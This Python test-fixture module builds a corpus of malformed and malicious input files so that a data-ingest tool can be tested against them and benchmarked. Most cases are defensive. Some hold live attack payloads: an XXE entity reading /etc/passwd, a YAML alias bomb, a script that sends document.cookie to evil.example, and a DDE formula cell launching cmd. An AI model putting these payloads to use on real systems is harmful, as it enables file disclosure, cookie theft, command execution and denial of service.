"""The hostile corpus: broken and malicious returns, generated (never committed as binaries),
each with the clear message the ingest must give for it.

Used by tests/ingest/test_hostile.py (every case in one run beside a good source, which must
still land) and by `make bench` (each case alone: its time and peak memory; targets <= 5 s and
<= 300 MB). Every figure here is invented.
"""

from __future__ import annotations

import io
import json
import subprocess
import sys
import tempfile
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
YML = 'force: Kent\nreference: "HOSTILE"\nperiod_start: 2023-04-01\nperiod_end: 2024-03-31\n'
GOOD_CSV = "Gender,Count\r\nFemale,40\r\nMale,12\r\nTotal,52\r\n"

CONTENT_TYPES = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                 '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                 '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                 '<Default Extension="xml" ContentType="application/xml"/>'
                 '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
                 '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
                 "</Types>")
WORKBOOK = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>')
WB_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
           '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
           '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
           'Target="worksheets/sheet1.xml"/></Relationships>')
ROOT_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
             '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
             '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
             'Target="xl/workbook.xml"/></Relationships>')


def xlsx(sheet_xml: str | bytes, head: str = "") -> bytes:
    """A minimal workbook around one sheet's XML (as a hostile tool would write it)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", CONTENT_TYPES)
        zf.writestr("_rels/.rels", ROOT_RELS)
        zf.writestr("xl/workbook.xml", WORKBOOK)
        zf.writestr("xl/_rels/workbook.xml.rels", WB_RELS)
        body = sheet_xml.encode() if isinstance(sheet_xml, str) else sheet_xml
        zf.writestr("xl/worksheets/sheet1.xml", head.encode() + body)
    return buf.getvalue()


def _sheet(rows: str, extra: str = "") -> str:
    return ('<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            f"{rows}</sheetData>{extra}</worksheet>")


def _inline(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def far_corner() -> dict[str, bytes]:
    rows = f'<row r="1">{_inline("A1", "Gender")}</row><row r="1048576"><c r="XFD1048576"><v>5</v></c></row>'
    return {"return.xlsx": xlsx(_sheet(rows))}


def merged_whole_sheet() -> dict[str, bytes]:
    rows = (f'<row r="1">{_inline("A1", "Victims by gender")}</row>'
            f'<row r="3">{_inline("A3", "Female")}<c r="B3"><v>7</v></c></row><row r="4">{_inline("A4", "Male")}<c r="B4"><v>2</v></c></row>')
    return {"return.xlsx": xlsx(_sheet(rows, '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'))}


def two_million_cells() -> dict[str, bytes]:
    parts = []
    for r in range(1, 20_001):
        parts.append(f'<row r="{r}">' + "".join(f"<c><v>{c}</v></c>" for c in range(100)) + "</row>")
    return {"big.xlsx": xlsx(_sheet("".join(parts)))}


def xxe() -> dict[str, bytes]:
    head = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    rows = f'<row r="1">{_inline("A1", "Gender")}{_inline("B1", "Count")}</row><row r="2"><c r="A2" t="inlineStr"><is><t>&xxe;</t></is></c><c r="B2"><v>3</v></c></row>'
    return {"return.xlsx": xlsx(_sheet(rows), head)}


def yaml_bomb() -> dict[str, bytes]:
    lines = ['a: &a ["x","x","x","x","x","x","x","x","x"]']
    for i in range(1, 9):
        lines.append(f"{chr(97 + i)}: &{chr(97 + i)} [*{chr(96 + i)},*{chr(96 + i)},*{chr(96 + i)},*{chr(96 + i)},*{chr(96 + i)},"
                     f"*{chr(96 + i)},*{chr(96 + i)},*{chr(96 + i)},*{chr(96 + i)}]")
    lines.append("figures:\n  - breakdown: total\n    value: *i\n    location: x")
    return {"figures.yml": "\n".join(lines).encode()}


def yaml_bomb_source() -> dict[str, bytes]:
    bomb = yaml_bomb()["figures.yml"].decode().split("figures:")[0]
    return {"source.yml": (YML + bomb).encode(), "g.csv": GOOD_CSV.encode()}


def huge_rowspan() -> dict[str, bytes]:
    return {"page.html": (b"<html><body><table><tr><th>Gender</th><th>Count</th></tr>"
                          b"<tr><td rowspan='999999999' colspan='999999'>Female</td><td>4</td></tr>"
                          b"<tr><td>2</td></tr></table></body></html>")}


def repeated_rows() -> dict[str, bytes]:
    return {"rows.csv": ("Gender,Count\r\n" + "Female,1\r\n" * 1800).encode()}


def period_zero() -> dict[str, bytes]:
    return {"figures.csv": b"breakdown,period,value,location\ntotal,0000/01,5,line 1\ntotal,0000,6,line 2\n"}


def year_1600() -> dict[str, bytes]:
    return {"figures.csv": b"breakdown,period_start,period_end,value,location\ntotal,1600-01-01,1600-12-31,5,line 1\n"}


def negative_denominator() -> dict[str, bytes]:
    return {"figures.csv": b"breakdown,platform,measure,value,denominator,location\nplatform,Snapchat,percent,40%,-3,line 1\n"}


def encrypted_pdf() -> dict[str, bytes]:
    from reportlab.lib.pagesizes import A4
    from reportlab.pdfgen import canvas

    buf = io.BytesIO()
    c = canvas.Canvas(buf, pagesize=A4, encrypt="secret")
    c.drawString(72, 720, "There have been 39 offences recorded.")
    c.save()
    return {"letter.pdf": buf.getvalue()}


def pdf_500_pages() -> dict[str, bytes]:
    from reportlab.lib.pagesizes import A4
    from reportlab.pdfgen import canvas

    buf = io.BytesIO()
    c = canvas.Canvas(buf, pagesize=A4)
    for i in range(500):
        c.drawString(72, 720, f"Page {i + 1}")
        c.showPage()
    c.save()
    return {"letter.pdf": buf.getvalue()}


def password_workbook() -> dict[str, bytes]:
    return {"locked.xlsx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + "EncryptedPackage".encode("utf-16-le") * 4}


def corrupt_docx() -> dict[str, bytes]:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("word/document.xml", "<w:document this is not xml")
    return {"letter.docx": buf.getvalue()}


def script_page() -> dict[str, bytes]:
    return {"page.html": (b"<html><head><script>fetch('https://evil.example/'+document.cookie)</script></head><body>"
                          b"<iframe src='https://evil.example'></iframe><table><tr><th>Gender</th><th>Count</th></tr>"
                          b"<tr><td onmouseover='steal()'>Female</td><td>5</td></tr></table></body></html>")}


def formula_cells() -> dict[str, bytes]:
    return {"g.csv": b"Gender,Count\r\n=cmd|' /C calc'!A0,5\r\nFemale,=1+1\r\n"}


def utf16_csv() -> dict[str, bytes]:
    return {"g.csv": GOOD_CSV.replace("40", "41").replace("52", "53").encode("utf-16")}


def huge_field() -> dict[str, bytes]:
    return {"g.csv": b"Gender,Count\r\nFemale," + b"9" * 2_000_000 + b"\r\n"}


def deep_html() -> dict[str, bytes]:
    return {"page.html": b"<html><body>" + b"<div>" * 100_000 + b"<table><tr><td>Female</td><td>3</td></tr></table>" + b"</div>" * 100_000
            + b"</body></html>"}


def markup_labels() -> dict[str, bytes]:
    return {"g.csv": b"Gender,Count\r\n[corrected figures](https://evil.example) ![x](https://evil.example/i.png),5\r\n"
                     b"<b>Female</b>,4\r\n"}


@dataclass(frozen=True)
class Case:
    name: str
    files: Callable[[], dict[str, bytes]]
    message: str  # what issues.csv or stderr must say about the source
    issue_type: str = ""  # the issue type it must carry, when one is fixed


CASES = [
    Case("far_corner_cell", far_corner, "no figures found", "source_empty"),
    Case("merged_over_whole_sheet", merged_whole_sheet, "gender 'Female' read as 'female'"),
    Case("two_million_cells", two_million_cells, "filled cells, the limit", "source_too_large"),
    Case("xxe_entity", xxe, "declares XML entities", "xml_entities_ignored"),
    Case("yaml_anchor_bomb", yaml_bomb, "aliases (*a) are not allowed", "source_unreadable"),
    Case("yaml_anchor_bomb_in_source_yml", yaml_bomb_source, "aliases", "invalid_source_yml"),
    Case("huge_rowspan", huge_rowspan, "gender 'Female' read as 'female'"),
    Case("repeated_rows", repeated_rows, "same figure given twice", "duplicate_figure"),
    Case("period_0000", period_zero, "cannot be read as dates", "unparsed_period"),
    Case("year_1600", year_1600, "outside the dates the table can hold", "invalid_figure"),
    Case("negative_denominator", negative_denominator, "denominator is negative", "invalid_figure"),
    Case("encrypted_pdf", encrypted_pdf, "protected by a password", "source_unreadable"),
    Case("pdf_of_500_pages", pdf_500_pages, "500 pages, over the limit of 200 pages", "source_too_large"),
    Case("password_workbook", password_workbook, "protected by a password", "source_unreadable"),
    Case("corrupt_docx", corrupt_docx, "not a readable Word document", "source_unreadable"),
    Case("script_in_page", script_page, "page carries active content", "html_active_content"),
    Case("formula_cells", formula_cells, "looks like a spreadsheet formula", "formula_like_text"),
    Case("utf16_csv", utf16_csv, "file is UTF-16 text", "encoding_fallback"),
    Case("two_megabyte_cell", huge_field, "not readable as CSV", "source_unreadable"),
    Case("deeply_nested_page", deep_html, "", ""),
    Case("markup_in_labels", markup_labels, "kept as plain text, never rendered", "markup_like_text"),
]


def write_case(root: Path, case: Case) -> Path:
    folder = root / case.name
    folder.mkdir(parents=True)
    files = case.files()
    if "source.yml" not in files:
        (folder / "source.yml").write_text(YML, encoding="utf-8")
    for name, data in files.items():
        (folder / name).write_bytes(data)
    return folder


def write_good(root: Path) -> Path:
    folder = root / "a_good_source"
    folder.mkdir(parents=True)
    (folder / "source.yml").write_text(YML, encoding="utf-8")
    (folder / "g.csv").write_text(GOOD_CSV, encoding="utf-8")
    return folder


def measure_case(case: Case) -> tuple[float, float]:
    """One case alone, in a fresh process: (seconds, peak MB) of `python -m ingest` on it."""
    with tempfile.TemporaryDirectory() as tmp:
        write_case(Path(tmp) / "raw", case)
        code = ("import json,resource,sys,time;sys.path.insert(0,{root!r});t=time.perf_counter();from ingest.__main__ import main;"
                "main([{raw!r},'--out',{out!r},'-q']);print(json.dumps([time.perf_counter()-t,"
                "resource.getrusage(resource.RUSAGE_SELF).ru_maxrss/1024]))").format(
            root=str(ROOT), raw=str(Path(tmp) / "raw"), out=str(Path(tmp) / "out"))
        t = time.perf_counter()
        out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=300)
        wall = time.perf_counter() - t
        try:
            seconds, peak = json.loads(out.stdout.strip().splitlines()[-1])
        except (ValueError, IndexError):
            return wall, float("nan")
        return float(seconds), float(peak)


def worst_case() -> tuple[str, float, float]:
    """The slowest case of the corpus (name, seconds, peak MB), each run alone."""
    results = [(c.name, *measure_case(c)) for c in CASES]
    return max(results, key=lambda r: (r[1], r[2]))


def all_cases() -> list[tuple[str, float, float]]:
    return [(c.name, *measure_case(c)) for c in CASES]
